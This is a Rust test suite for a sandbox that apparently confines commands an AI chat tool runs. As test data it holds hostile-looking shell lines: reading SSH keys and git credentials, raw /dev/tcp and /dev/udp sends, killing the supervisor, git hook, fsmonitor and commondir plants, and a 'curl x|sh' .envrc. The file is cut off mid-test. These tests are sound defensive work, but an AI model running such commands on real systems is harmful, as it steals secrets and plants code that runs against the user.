//! Attacks of an approved command, each run under the supervisor with and without the
//! sandbox: writing outside the workspace, reading a secret folder (also through a symlink), a
//! TCP connection or a UDP datagram with the network off, the environment's secrets and
//! addresses, signals to processes outside, killing the supervisor to leave a process behind,
//! the session bus, the display, the SSH agent, git's hooks, a host not listed. Real work in the
//! workspace still works: git commits and a Python venv.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: a failure should stop the test

use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use tollgate_sandbox::supervisor::SUPERVISOR_ARG;
use tollgate_sandbox::{
    explain_denials, hidden_folders, secret_paths, walk_workspace, SandboxLevel, SandboxSpec,
    WorkspaceGuard, SANDBOX_ENV,
};
use tollgate_test_support::{commit, git, test_root};

/// A spec confining commands to `ws`, with `tmp` as the private temp folder.
fn spec(ws: &Path, tmp: &Path, hidden: Vec<PathBuf>, namespaces: bool) -> SandboxSpec {
    SandboxSpec {
        level: SandboxLevel::WorkspaceOnly,
        network: false,
        workspace: ws.to_path_buf(),
        temp: tmp.to_path_buf(),
        hidden,
        protected: walk_workspace(ws).read_only,
        namespaces,
        ..SandboxSpec::default()
    }
}

/// What a command did.
#[derive(Debug)]
struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Ran {
    /// The sandbox's explanations of this run's failures, as the model would read them.
    fn explained(&self, spec: &SandboxSpec) -> Vec<String> {
        explain_denials(&format!("{}\n{}", self.stderr, self.stdout), spec)
    }
}

/// Runs `command` in `cwd` under the supervisor, sandboxed by `spec` (or not, with `None`), with
/// `env` added to the supervisor's environment (what Tollgate was started with).
fn run_in(spec: Option<&SandboxSpec>, cwd: &Path, command: &str, env: &[(&str, &str)]) -> Ran {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tollgate-sandbox-supervise"));
    cmd.args([SUPERVISOR_ARG, command])
        .current_dir(cwd)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(spec) = spec {
        cmd.env(SANDBOX_ENV, serde_json::to_string(spec).unwrap());
    }
    let mut child = cmd.spawn().unwrap();
    // Held open while the command runs: closing the supervisor's stdin means "stop".
    let stdin = child.stdin.take().unwrap();
    let out = child.wait_with_output().unwrap();
    drop(stdin);
    let _ = std::io::stderr().flush();
    Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn run(spec: &SandboxSpec, command: &str) -> (i32, String) {
    let ran = run_in(Some(spec), &spec.workspace, command, &[]);
    (ran.code, ran.stderr)
}

/// A workspace, a private temp folder and a home with an SSH key, under one root.
struct Home {
    _root: tempfile::TempDir,
    root: PathBuf,
    ws: PathBuf,
    tmp: PathBuf,
    home: PathBuf,
}

fn home() -> Home {
    let dir = test_root(env!("CARGO_TARGET_TMPDIR"));
    let root = dir.path().canonicalize().unwrap();
    let (ws, tmp, home) = (root.join("ws"), root.join("tmp"), root.join("home"));
    for d in [&ws, &tmp, &home.join(".ssh")] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY").unwrap();
    Home {
        _root: dir,
        root,
        ws,
        tmp,
        home,
    }
}

#[test]
fn an_approved_command_cannot_reach_past_its_workspace() {
    // Both layers alone would hold: namespaces with Landlock, and Landlock where there are no
    // namespaces.
    for namespaces in [true, false] {
        let Home {
            root,
            ws,
            tmp,
            home,
            ..
        } = &home();
        std::os::unix::fs::symlink(home, ws.join("out")).unwrap();
        let spec = spec(ws, tmp, secret_paths(home), namespaces);
        let p = |path: &std::path::Path| path.display().to_string();

        let (code, err) = run(&spec, &format!("touch {}", p(&root.join("outside"))));
        assert_ne!(code, 0);
        assert!(
            err.contains("Permission denied") || err.contains("Read-only"),
            "{err}"
        );
        assert!(!root.join("outside").exists());

        let ran = run_in(
            Some(&spec),
            ws,
            &format!("cat {}", p(&home.join(".ssh/id_rsa"))),
            &[],
        );
        assert_ne!(ran.code, 0);
        assert!(!ran.stdout.contains("PRIVATE KEY"));
        assert_eq!(
            ran.explained(&spec),
            [format!(
                "reading a protected folder ({}): {}",
                p(&home.join(".ssh")),
                p(&home.join(".ssh/id_rsa"))
            )],
            "{ran:?}"
        );

        let (code, _) = run(&spec, &format!("echo x > {}", p(&ws.join("out/planted"))));
        assert_ne!(code, 0, "a symlink out of the workspace leads nowhere");
        assert!(!home.join("planted").exists());

        let (code, _) = run(&spec, &format!("sh -c 'touch {}'", p(&root.join("child"))));
        assert_ne!(code, 0, "a child process inherits the sandbox");
        assert!(!root.join("child").exists());

        // Inside the workspace and the private temp folder, work goes on.
        let (code, err) = run(
            &spec,
            &format!(
                "echo ok > {0} && cat {0} && echo t > \"$TMPDIR/t\" && ls /usr >/dev/null",
                p(&ws.join("inside"))
            ),
        );
        assert_eq!(code, 0, "{err}");
        assert_eq!(std::fs::read_to_string(ws.join("inside")).unwrap(), "ok\n");
        assert!(tmp.join("t").exists());

        // Read-only: not even the workspace is writable.
        let read_only = SandboxSpec {
            level: SandboxLevel::ReadOnly,
            ..spec.clone()
        };
        let (code, _) = run(&read_only, &format!("touch {}", p(&ws.join("new"))));
        assert_ne!(code, 0);
        let (code, err) = run(&read_only, &format!("cat {}", p(&ws.join("inside"))));
        assert_eq!(code, 0, "{err}");
    }
}

#[test]
fn with_the_network_off_a_command_cannot_connect() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let Home { ws, tmp, .. } = &home();
    let connect = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected'");
    for namespaces in [true, false] {
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &connect, &[]);
        assert_ne!(ran.code, 0);
        assert_eq!(
            ran.explained(&spec),
            ["opening a network connection (the network is off in this chat)"],
            "{ran:?}"
        );
        let online = SandboxSpec {
            network: true,
            ..spec
        };
        let (code, err) = run(&online, &connect);
        assert_eq!(code, 0, "{err}");
    }
}

/// Sends a datagram to a listener on this machine's loopback from a sandboxed command, then one
/// from the test itself: the first to arrive is the sandbox's only if it got out.
#[test]
fn with_the_network_off_no_datagram_leaves() {
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let Home { ws, tmp, .. } = &home();
    let send = format!("printf from-the-sandbox > /dev/udp/127.0.0.1/{port}; echo sent");
    let first_received = || {
        std::net::UdpSocket::bind("127.0.0.1:0")
            .unwrap()
            .send_to(b"sentinel", ("127.0.0.1", port))
            .unwrap();
        let mut buf = [0u8; 64];
        let (n, _) = listener.recv_from(&mut buf).unwrap();
        String::from_utf8_lossy(&buf[..n]).into_owned()
    };
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, &format!("bash -c '{send}'"), &[]);
    assert!(ran.stdout.contains("sent"), "{ran:?}");
    assert_eq!(first_received(), "sentinel", "nothing left the sandbox");
    // Without the sandbox the same datagram arrives first (and then the sentinel).
    let ran = run_in(None, ws, &format!("bash -c '{send}'"), &[]);
    assert!(ran.stdout.contains("sent"), "{ran:?}");
    assert_eq!(first_received(), "from-the-sandbox");
    assert_eq!(first_received(), "sentinel");
}

#[test]
fn the_environment_holds_no_secret_and_no_address_of_a_service() {
    let Home { ws, tmp, .. } = &home();
    let planted = [
        ("GITHUB_TOKEN", "ghp_planted"),
        ("AWS_SECRET_ACCESS_KEY", "aws-planted"),
        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1000/bus"),
        ("DISPLAY", ":7"),
        ("SSH_AUTH_SOCK", "/tmp/ssh-planted/agent.1"),
    ];
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, "env", &planted);
    assert_eq!(ran.code, 0, "{ran:?}");
    for (name, value) in planted {
        assert!(!ran.stdout.contains(name), "{name} leaked: {}", ran.stdout);
        assert!(!ran.stdout.contains(value));
    }
    assert!(ran.stdout.contains("PATH="), "{}", ran.stdout);
    assert!(
        ran.stdout.lines().any(|l| l == "TMPDIR=/tmp"),
        "{}",
        ran.stdout
    );
    assert!(!ran.stdout.contains(SANDBOX_ENV));
    let off = run_in(None, ws, "env", &planted);
    assert!(off.stdout.contains("GITHUB_TOKEN=ghp_planted"));
}

/// Whether the process `pid` is alive (not gone, not a zombie).
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .map(|stat| {
            let state = stat
                .rsplit_once(')')
                .map(|(_, r)| r.trim_start().chars().next());
            !matches!(state, Some(Some('Z' | 'X')))
        })
        .unwrap_or(false)
}

#[test]
fn signals_reach_no_process_outside() {
    let Home { ws, tmp, .. } = &home();
    for namespaces in [true, false] {
        let mut outside = Command::new("sleep").arg("600").spawn().unwrap();
        let pid = outside.id();
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &format!("kill -TERM {pid}"), &[]);
        assert_ne!(ran.code, 0, "{ran:?}");
        assert!(alive(pid), "the process outside was signalled");
        assert_eq!(
            ran.explained(&spec),
            ["signalling a process outside the sandbox (a command sees and signals only its own)"],
            "{ran:?}"
        );
        let off = run_in(None, ws, &format!("kill -TERM {pid}"), &[]);
        assert_eq!(off.code, 0, "{off:?}");
        let status = outside.wait().unwrap();
        assert!(!status.success(), "killed by the unsandboxed command");
    }
}

/// The processes whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .map(|c| String::from_utf8_lossy(&c).contains(marker))
                .unwrap_or(false)
                && alive(*pid)
        })
        .collect()
}

#[test]
fn killing_its_supervisor_leaves_nothing_behind() {
    let Home { ws, tmp, .. } = &home();
    for namespaces in [true, false] {
        // A unique duration marks the process left behind.
        let marker = format!("4242.{}{}", std::process::id(), u8::from(namespaces));
        let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID; echo tried=$?");
        let spec = spec(ws, tmp, Vec::new(), namespaces);
        let ran = run_in(Some(&spec), ws, &command, &[]);
        assert!(ran.stdout.contains("tried="), "{ran:?}");
        assert!(
            !ran.stdout.contains("tried=0"),
            "the supervisor could be killed: {ran:?}"
        );
        assert_eq!(
            processes_with(&marker),
            Vec::<u32>::new(),
            "a leftover survived"
        );
    }
    // Without the sandbox the supervisor dies and the leftover lives on (then we end it).
    let marker = format!("4343.{}", std::process::id());
    let command = format!("sleep {marker} >/dev/null 2>&1 & kill -KILL $PPID");
    let _ = run_in(None, ws, &command, &[]);
    let left = processes_with(&marker);
    assert_eq!(
        left.len(),
        1,
        "the unsandboxed leftover outlived its supervisor"
    );
    for pid in left {
        let _ = Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
}

#[test]
fn a_secret_folder_behind_a_symlink_stays_hidden() {
    let Home {
        root,
        ws,
        tmp,
        home,
        ..
    } = &home();
    // The key really lives in a dotfiles folder; ~/.ssh is a symlink to it (GNU stow).
    let dotfiles = root.join("dotfiles/ssh");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::write(dotfiles.join("id_ed25519"), "STOWED KEY").unwrap();
    std::fs::remove_dir_all(home.join(".ssh")).unwrap();
    std::os::unix::fs::symlink(&dotfiles, home.join(".ssh")).unwrap();
    std::fs::write(home.join(".git-credentials"), "https://u:SECRET@host").unwrap();
    for namespaces in [true, false] {
        let spec = spec(ws, tmp, hidden_folders(Some(home), None), namespaces);
        for path in [
            home.join(".ssh/id_ed25519"),
            dotfiles.join("id_ed25519"),
            home.join(".git-credentials"),
        ] {
            let ran = run_in(Some(&spec), ws, &format!("cat {}", path.display()), &[]);
            assert_ne!(ran.code, 0, "{ran:?}");
            assert!(!ran.stdout.contains("KEY") && !ran.stdout.contains("SECRET"));
            let explained = ran.explained(&spec);
            assert_eq!(explained.len(), 1, "{ran:?}");
            assert!(
                explained[0].starts_with("reading a protected folder"),
                "{explained:?}"
            );
        }
    }
    let off = run_in(
        None,
        ws,
        &format!("cat {}", home.join(".ssh/id_ed25519").display()),
        &[],
    );
    assert_eq!(off.stdout, "STOWED KEY");
}

/// The plants a sandboxed command can make for the user's next `git status` (or commit, or
/// opening the folder), each a shell line run in the workspace. `{M}` is the marker file that
/// proves the planted program ran.
const GIT_PLANTS: &[(&str, &str)] = &[
    ("hook", "printf '#!/bin/sh\\ntouch {M}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
    ("fsmonitor in config", "git config core.fsmonitor 'touch {M}; false'"),
    ("hooksPath in config", "mkdir -p h && printf '#!/bin/sh\\ntouch {M}\\n' > h/pre-commit && chmod +x h/pre-commit && git config core.hooksPath \"$PWD/h\""),
    ("an include in config", "printf '[core]\\n\\tfsmonitor = \"touch {M}; false\"\\n' > evil.cfg && git config include.path \"$PWD/evil.cfg\""),
    ("commondir, created", "mkdir -p evil && cp -r .git/. evil/ && git --git-dir=evil config core.fsmonitor 'touch {M}; false' && echo \"$PWD/evil\" > .git/commondir"),
    ("commondir, relative", "mkdir -p .git/e && cp -r .git/objects .git/refs .git/config .git/e/ && printf '[core]\\n\\tfsmonitor = \"touch {M}; false\"\\n' >> .git/e/config && echo e > .git/commondir"),
    ("a submodule's commondir", "mkdir -p x && cp -r .git/modules/sm/. x/ && git config --file x/config core.fsmonitor 'touch {M}; false' && echo \"$PWD/x\" > .git/modules/sm/commondir"),
    ("a submodule's config", "git config --file .git/modules/sm/config core.fsmonitor 'touch {M}; false'"),
    ("a nested repository, created and added", "git init -q sub && git -C sub config core.fsmonitor 'touch {M}; false' && touch sub/f && git -C sub add f && git -C sub -c user.name=T -c user.email=t@example.org commit -qm s && git add sub"),
    ("a .git file, created", "mkdir -p evil2 && cp -r .git/. evil2/ && git --git-dir=evil2 config core.fsmonitor 'touch {M}; false' && mkdir -p sub2 && echo \"gitdir: $PWD/evil2\" > sub2/.git"),
    ("the git folder swapped", "mv .git .git-moved; mkdir -p .git && cp -r .git-moved/. .git/ ; git config core.fsmonitor 'touch {M}; false'"),
    ("info/attributes with a filter", "printf '* filter=x\\n' > .git/info/attributes && git config filter.x.clean 'touch {M}; cat'"),
    ("an exec line in a stopped rebase's to-do list", "git -c user.name=T -c user.email=t@example.org commit -q --allow-empty -m two && GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i HEAD~1 && sed -i '1i exec touch {M}' .git/rebase-merge/git-rebase-todo"),
    ("a rebase stopped with its own --exec", "git -c user.name=T -c user.email=t@example.org commit -q --allow-empty -m two && GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i --exec 'touch {M}' HEAD~1"),
];

/// A repository with a commit and a submodule (`sm`, from a second repository), as a user's
/// project would be.
fn project(ws: &Path, root: &Path) {
    let lib = root.join("lib");
    std::fs::create_dir_all(&lib).unwrap();
    git(&lib, &["init", "-q"]);
    std::fs::write(lib.join("l.txt"), "l").unwrap();
    git(&lib, &["add", "."]);
    commit(&lib, "lib");
    git(ws, &["init", "-q"]);
    std::fs::write(ws.join("a.txt"), "a").unwrap();
    git(ws, &["add", "."]);
    git(
        ws,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &lib.display().to_string(),
            "sm",
        ],
    );
    commit(ws, "first");
}

/// What the user does next, outside any sandbox: `git status` at the top, in the nested
/// folders a plant may have made, a commit, and `git diff` (filters).
fn users_next_git(ws: &Path) {
    for dir in [
        ws.to_path_buf(),
        ws.join("sub"),
        ws.join("sub2"),
        ws.join("sm"),
    ] {
        if dir.is_dir() {
            let _ = Command::new("git").arg("status").current_dir(&dir).output();
        }
    }
    std::fs::write(ws.join("a.txt"), "changed").unwrap();
    let _ = Command::new("git")
        .args(["add", "a.txt"])
        .current_dir(ws)
        .output();
    let _ = Command::new("git")
        .args([
            "-c",
            "user.name=U",
            "-c",
            "user.email=u@example.org",
            "commit",
            "-qm",
            "user",
        ])
        .current_dir(ws)
        .output();
    // A rebase the command left stopped, carried on.
    let _ = Command::new("git")
        .args([
            "-c",
            "user.name=U",
            "-c",
            "user.email=u@example.org",
            "rebase",
            "--continue",
        ])
        .env("GIT_EDITOR", "true")
        .current_dir(ws)
        .output();
}

/// Runs `line` in `ws` as the shell tool does: sandboxed, with the workspace's guard prepared
/// before and settled after (its report), or — with the sandbox off — with neither.
fn guarded_run(
    ws: &Path,
    tmp: &Path,
    line: &str,
    sandboxed: bool,
    namespaces: bool,
) -> (Ran, Option<Vec<String>>) {
    let guard = sandboxed.then(|| WorkspaceGuard::prepare(ws, namespaces).unwrap());
    let mut spec = spec(ws, tmp, Vec::new(), namespaces);
    if let Some(guard) = &guard {
        guard.apply(&mut spec);
    }
    let ran = run_in(sandboxed.then_some(&spec), ws, line, &[]);
    (ran, guard.map(WorkspaceGuard::settle))
}

/// The index's ways to hide an edit from the user's `git status`, each a list of commands run
/// one after the other (a guard each, as the shell tool does): assume-unchanged and
/// skip-worktree, at once and split over two commands, in index version 4, and by sparse
/// checkout (which takes the file out of the folder, unseen).
const INDEX_HIDES: &[(&str, &[&str])] = &[
    ("assume-unchanged", &["git update-index --assume-unchanged a.txt && echo planted >> a.txt"]),
    ("skip-worktree", &["git update-index --skip-worktree a.txt && echo planted >> a.txt"]),
    ("assume-unchanged, then the edit", &["git update-index --assume-unchanged a.txt", "echo planted >> a.txt"]),
    ("index version 4", &["git update-index --index-version 4 && git update-index --assume-unchanged a.txt && echo planted >> a.txt"]),
    ("sparse checkout", &["git sparse-checkout set --no-cone /sm/"]),
];

/// An approved command marks a tracked file so that git stops looking at it, and edits it: the
/// user's own `git status` afterwards, outside the sandbox, still names the file — with
/// namespaces and without. Each shape is shown to be real with the sandbox off, where the
/// user's `git status` says nothing of the file.
#[test]
fn an_edit_a_command_hides_from_git_status_is_still_seen_by_the_user() {
    for namespaces in [true, false] {
        for (name, commands) in INDEX_HIDES {
            for sandboxed in [true, false] {
                let Home { root, ws, tmp, .. } = &home();
                project(ws, root);
                let mut reported = Vec::new();
                for line in *commands {
                    let (ran, settled) = guarded_run(ws, tmp, line, sandboxed, namespaces);
                    assert_eq!(ran.code, 0, "{name}: {ran:?}");
                    reported.extend(settled.unwrap_or_default());
                }
                let status = git(ws, &["status", "--porcelain"]);
                if sandboxed {
                    assert!(
                        status.contains("a.txt"),
                        "{name} (namespaces: {namespaces}): the user's git status does not show the edit: {status:?} {reported:?}"
                    );
                    assert!(
                        reported
                            .iter()
                            .any(|l| l.contains("assume-unchanged or skip-worktree")),
                        "{name} (namespaces: {namespaces}): {reported:?}"
                    );
                } else {
                    assert!(
                        !status.contains("a.txt"),
                        "{name}: the shape is not real: {status:?}"
                    );
                }
            }
        }
    }
}

/// Every plant in [`GIT_PLANTS`], made by an approved command in the sandbox — with namespaces
/// (git's folders shown as copies) and without (Landlock alone; undone after) — and then the
/// user's own `git status`, commit and diff outside it: the planted program never runs. Each
/// plant is shown to be real by the same run with the sandbox off, where it does run. Graded by
/// the marker file the planted program would make, not by what the sandbox reports.
#[test]
fn what_a_command_plants_in_git_never_runs_when_the_user_runs_git() {
    for namespaces in [true, false] {
        for (name, plant) in GIT_PLANTS {
            for sandboxed in [true, false] {
                let Home { root, ws, tmp, .. } = &home();
                project(ws, root);
                let marker = root.join("PLANTED-RAN");
                let line = plant.replace("{M}", &marker.display().to_string());
                let (ran, reported) = guarded_run(ws, tmp, &line, sandboxed, namespaces);
                users_next_git(ws);
                if sandboxed {
                    assert!(
                        !marker.exists(),
                        "{name} (namespaces: {namespaces}): the planted program ran; {ran:?} {reported:?}"
                    );
                } else {
                    assert!(marker.exists(), "{name}: the plant is not real: {ran:?}");
                }
            }
        }
    }
}

/// Git's real work in the sandbox still lands: a commit, a branch, a tag, a fetch from a local
/// remote, and a checkout — seen by the user's own git afterwards. A repository the command
/// creates is held (renamed, reported) rather than left armed.
#[test]
fn commits_branches_and_fetches_made_in_the_sandbox_are_kept() {
    for namespaces in [true, false] {
        let Home { root, ws, tmp, .. } = &home();
        project(ws, root);
        let lib = root.join("lib").display().to_string();
        let guard = WorkspaceGuard::prepare(ws, namespaces).unwrap();
        let mut spec = spec(ws, tmp, Vec::new(), namespaces);
        guard.apply(&mut spec);
        let work = format!(
            "echo b > b.txt && git add b.txt && git -c user.name=T -c user.email=t@example.org commit -qm second \
             && git branch feature && git tag v1 && git remote add lib {lib} \
             && git -c protocol.file.allow=always fetch -q lib && git checkout -q feature \
             && git init -q fresh && git log --oneline"
        );
        let ran = run_in(Some(&spec), ws, &work, &[]);
        assert_eq!(ran.code, 0, "namespaces {namespaces}: {ran:?}");
        let reported = guard.settle();
        let out = |args: &[&str]| git(ws, args);
        assert!(
            out(&["log", "--oneline"]).contains("second"),
            "namespaces {namespaces}: {reported:?}"
        );
        assert_eq!(
            out(&["rev-parse", "--abbrev-ref", "HEAD"]).trim(),
            "feature"
        );
        assert!(out(&["tag"]).contains("v1"));
        assert!(
            out(&["branch", "-a"]).contains("remotes/lib/"),
            "{}",
            out(&["branch", "-a"])
        );
        // The remote's address is configuration: not kept from the sandbox, and said so.
        assert!(!out(&["remote"]).contains("lib"));
        assert!(
            reported
                .iter()
                .any(|l| l.starts_with("writing config in git's folder")),
            "{reported:?}"
        );
        assert!(ws.join("fresh/.git.tollgate-held").is_dir() && !ws.join("fresh/.git").exists());
        assert!(
            reported
                .iter()
                .any(|l| l.starts_with("creating a git repository")),
            "{reported:?}"
        );
        assert!(out(&["status", "--porcelain"])
            .lines()
            .all(|l| !l.contains("a.txt")));
    }
}

/// A command that creates the files editors run when the folder opens gets them held.
#[test]
fn files_an_editor_runs_are_held_when_a_command_creates_them() {
    let Home { ws, tmp, .. } = &home();
    let guard = WorkspaceGuard::prepare(ws, true).unwrap();
    let mut spec = spec(ws, tmp, Vec::new(), true);
    guard.apply(&mut spec);
    let ran = run_in(
        Some(&spec),
        ws,
        "mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc && echo kept > notes.md",
        &[],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let reported = guard.settle();
    assert_eq!(reported.len(), 2, "{reported:?}");
    assert!(!ws.join(".vscode/tasks.json").exists() && !ws.join(".envrc").exists());
    assert!(ws.join(".envrc.tollgate-held").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("notes.md")).unwrap(),
        "kept\n"
    );
}

#[test]
fn a_python_venv_works_in_the_workspace() {
    let Home { ws, tmp, .. } = &home();
    let spec = spec(
        ws,
        tmp,
        secret_paths(Path::new(&std::env::var("HOME").unwrap())),
        true,
    );
    let ran = run_in(
        Some(&spec),
        ws,
        "/usr/bin/python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'",
        &[],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.trim().ends_with(".venv"), "{ran:?}");
}

/// Starts an Xvfb of its own (the display number it picked, read from it; no waiting).
struct Display {
    child: std::process::Child,
    number: String,
}

impl Display {
    fn start() -> Self {
        let mut child = Command::new("Xvfb")
            .args([
                "-displayfd",
                "1",
                "-nolisten",
                "tcp",
                "-screen",
                "0",
                "320x200x24",
            ])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        Self {
            child,
            number: line.trim().to_string(),
        }
    }
}

impl Drop for Display {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn the_display_is_out_of_reach_with_the_network_off_or_on() {
    let display = Display::start();
    let Home { ws, tmp, .. } = &home();
    let command = format!("DISPLAY=:{} xdotool getdisplaygeometry", display.number);
    let off = run_in(None, ws, &command, &[]);
    assert_eq!(off.stdout.trim(), "320 200", "{off:?}");
    for network in [false, true] {
        let spec = SandboxSpec {
            network,
            ..spec(ws, tmp, Vec::new(), true)
        };
        let ran = run_in(Some(&spec), ws, &command, &[]);
        assert_ne!(ran.code, 0, "network {network}: {ran:?}");
        let explained = ran.explained(&spec);
        assert!(
            explained.iter().any(|e| e.contains("the display")),
            "{ran:?} {explained:?}"
        );
    }
}

#[test]
fn the_ssh_agent_is_out_of_reach() {
    // A real agent, where agents put their socket (/tmp/ssh-…/agent.…).
    let out = Command::new("ssh-agent").arg("-s").output().unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    let value = |name: &str| {
        said.split(';')
            .find_map(|part| part.trim().strip_prefix(&format!("{name}=")))
            .unwrap()
            .to_string()
    };
    let (sock, pid) = (value("SSH_AUTH_SOCK"), value("SSH_AGENT_PID"));
    let Home { ws, tmp, .. } = &home();
    let command = format!("SSH_AUTH_SOCK={sock} ssh-add -l");
    let off = run_in(None, ws, &command, &[]);
    let spec = spec(ws, tmp, Vec::new(), true);
    let ran = run_in(Some(&spec), ws, &command, &[]);
    let _ = Command::new("kill").arg(&pid).status();
    assert!(off.stdout.contains("no identities"), "{off:?}");
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(!ran.stdout.contains("no identities"), "{ran:?}");
    assert!(
        ran.explained(&spec)
            .iter()
            .any(|e| e.contains("the SSH agent")),
        "{ran:?}"
    );
}

/// The session bus of this test run (`.ci/test.sh` runs the tests in a private D-Bus session
/// with gnome-keyring): a secret stored in the keyring is printed by `secret-tool` without the
/// sandbox, and neither it nor a plain D-Bus call gets through with it.
#[test]
#[ignore = "needs a session bus with a Secret Service: run .ci/test.sh (--include-ignored)"]
fn the_session_bus_and_the_keyring_are_out_of_reach() {
    let bus = std::env::var("DBUS_SESSION_BUS_ADDRESS").unwrap();
    let service = format!("app.tollgate.test.sandbox.{}", std::process::id());
    let mut store = Command::new("secret-tool")
        .args([
            "store",
            "--label",
            "sandbox test",
            "service",
            &service,
            "key",
            "k",
        ])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    store
        .stdin
        .take()
        .unwrap()
        .write_all(b"sk-planted-provider-key")
        .unwrap();
    assert!(store.wait().unwrap().success());
    let Home { ws, tmp, .. } = &home();
    // The command names the bus itself: the sandbox's environment has no address to give it.
    let search = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' secret-tool search --all service {service} 2>&1; secret-tool search --all service {service}");
    let call = format!("DBUS_SESSION_BUS_ADDRESS='{bus}' dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames");
    let off = run_in(None, ws, &search, &[]);
    assert!(off.stdout.contains("sk-planted-provider-key"), "{off:?}");
    let off = run_in(None, ws, &call, &[]);
    assert_eq!(off.code, 0, "{off:?}");
    for network in [false, true] {
        let spec = SandboxSpec {
            network,
            ..spec(ws, tmp, Vec::new(), true)
        };
        for command in [&search, &call] {
            let ran = run_in(
                Some(&spec),
                ws,
                command,
                &[("DBUS_SESSION_BUS_ADDRESS", bus.as_str())],
            );
            assert_ne!(ran.code, 0, "{command}: {ran:?}");
            assert!(!ran.stdout.contains("sk-planted"), "{ran:?}");
            assert!(
                ran.explained(&spec)
                    .iter()
                    .any(|e| e.contains("the session bus (D-Bus)")),
                "{command}: {ran:?}"
            );
        }
    }
    let _ = Command::new("secret-tool")
        .args(["clear", "service", &service])
        .status();
}

/// A tiny HTTP server on `addr` answering every request with `body` (in a thread of its own).
fn http_server(addr: &str, body: &'static str) -> u16 {
    let listener = std::net::TcpListener::bind((addr, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn = conn;
            let mut buf = [0u8; 4096];
            let _ = std::io::Read::read(&mut conn, &mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// "Only these hosts" (F-46): with the network off and a host listed, a command reaches
/// that host through Tollgate's proxy and no other — not an unlisted one through the proxy
/// (refused, and named), not the listed one around the proxy, not by UDP.
#[test]
fn only_the_listed_hosts_are_reached_through_the_proxy() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let _guard = runtime.enter();
    // Two servers on this machine's loopback (127.0.0.2 and .3: not in NO_PROXY).
    let listed = http_server("127.0.0.2", "from the listed host");
    let unlisted = http_server("127.0.0.3", "from an unlisted host");
    let Home { ws, tmp, .. } = &home();
    let hosts = vec![format!("127.0.0.2:{listed}")];
    let spec = SandboxSpec {
        hosts: hosts.clone(),
        ..spec(ws, tmp, Vec::new(), true)
    };
    assert!(spec.proxied());
    let proxy = tollgate_sandbox::proxy::HostProxy::start(
        &tmp.join(tollgate_sandbox::proxy::SOCKET_NAME),
        hosts,
    )
    .unwrap();
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS http://127.0.0.2:{listed}/"),
        &[],
    );
    assert_eq!(
        (ran.code, ran.stdout.as_str()),
        (0, "from the listed host"),
        "{ran:?}"
    );
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert!(!ran.stdout.contains("unlisted host"), "{ran:?}");
    assert!(
        ran.stdout
            .contains("is not among this chat's allowed hosts"),
        "{ran:?}"
    );
    assert_eq!(proxy.refused(), [format!("127.0.0.3:{unlisted}")]);
    // Around the proxy: the sandbox's own loopback has nothing; a TLS tunnel to the unlisted
    // host is refused the same way.
    let ran = run_in(
